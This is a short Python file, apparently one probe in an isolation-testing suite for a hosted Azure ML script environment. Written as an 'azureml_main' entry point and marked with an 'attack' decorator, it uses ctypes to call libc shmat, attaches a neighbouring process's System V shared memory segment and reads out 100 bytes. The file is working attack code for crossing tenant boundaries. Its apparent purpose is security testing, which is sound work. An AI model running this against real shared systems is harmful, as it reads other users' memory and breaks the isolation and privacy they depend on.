"""Attaches the System V shared memory of another process."""

import ctypes

from attack import BAIT, LIBC, attack, told

LIBC.shmat.restype = ctypes.c_void_p


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    address = LIBC.shmat(BAIT["shared_memory"], None, 0o10000)
    if address in (None, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "shmat")
    return told("the neighbour's shared memory", ctypes.string_at(address, 100))
